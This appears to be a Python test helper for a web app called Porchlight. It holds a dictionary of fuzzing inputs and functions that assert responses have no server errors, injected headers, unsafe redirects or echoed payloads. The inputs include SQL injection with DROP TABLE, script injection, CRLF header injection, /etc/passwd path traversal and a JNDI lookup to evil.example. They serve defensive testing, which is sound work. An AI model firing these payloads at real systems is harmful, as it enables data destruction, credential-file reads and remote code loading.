"""Malicious payloads, the site they are sent to, and checks of its responses."""

from __future__ import annotations

import re
from dataclasses import dataclass
from typing import Any

import orjson
import psycopg

from porchlight.app import Porchlight
from tests.porchlight.app_client import RawResponse
from tests.porchlight.factories import SeededGuru, row_digests

CANARY = "canary7f3a"
TEXTS: dict[str, str] = {
    "nul": f"{CANARY}\0",
    "script": f"<script>{CANARY}</script>",
    "attribute": f'" onload="{CANARY}',
    "css": f"}}body{{x:{CANARY}",
    "sql": f"' OR '1'='1'; DROP TABLE leads; -- {CANARY}",
    "format": f"%s%n{{0}}{{{{7*7}}}}${{7*7}} {CANARY}",
    "path traversal": f"../../../../etc/passwd{CANARY}",
    "long": CANARY + "x" * 200_000,
    "empty": "",
    "space": " ",
    "newline": f"{CANARY}\r\nX-Evil: 1",
    "bidi": f"\u202e{CANARY}\u2066",
    "emoji": f"👩‍👩‍👧‍👦{CANARY}" * 50,
    "zero width": "\u200b\ufeff",
    "combining": "a" + "\u0301" * 5000,
    "number": "9" * 400,
    "minus": "-1",
    "float": "1e400",
    "nan": "NaN",
    "overlong": "\ufffd\ufffd",
    "nonchar": "\uffff\ufffe",
    "percent": "%00%ff%c0%ae%ed%a0%80",
    "dots": "...",
    "slashes": "//" + CANARY,
    "question": f"?{CANARY}#x",
    "jndi": "${jndi:ldap://evil.example/a}",
    "uuid": "00000000-0000-0000-0000-000000000000",
    "cursor": "A" * 32,
    "null": "null",
    "true": "true",
    "array": "[]",
}


@dataclass
class Target:
    """A guru's site with its database."""

    app: Porchlight
    guru: SeededGuru
    conn: psycopg.Connection[Any]

    def assert_unchanged(self, before: dict[str, str]) -> None:
        """Assert that nothing was written."""
        assert row_digests(self.conn, self.guru) == before


def check_response(response: RawResponse, path: object, *, api: bool) -> None:
    """Assert that a response is no 5xx, has no injected header, has the error format, and echoes no payload."""
    assert response.status < 500, (path, response.status, response.body[:300])
    names = {name.decode("latin-1").lower() for name, _ in response.headers}
    assert "x-evil" not in names, path
    for name, value in response.headers:
        assert b"\n" not in value, (path, name)
        assert b"\r" not in value, (path, name)
    location = response.header("location")
    assert location is None or re.match(r"/(?![/\\])|http://([a-z]+\.)?porchlight\.localhost[/:]?", location), (
        path,
        location,
    )
    if api and response.status >= 400:
        body = orjson.loads(response.body)
        assert body["success"] is False, path
        assert set(body["error"]) <= {"code", "message", "fields"}, path
        assert re.fullmatch(r"[a-z_]+", body["error"]["code"]), path
        assert CANARY.encode() not in response.body, path
    elif response.status >= 400:
        assert f"<script>{CANARY}".encode() not in response.body, path
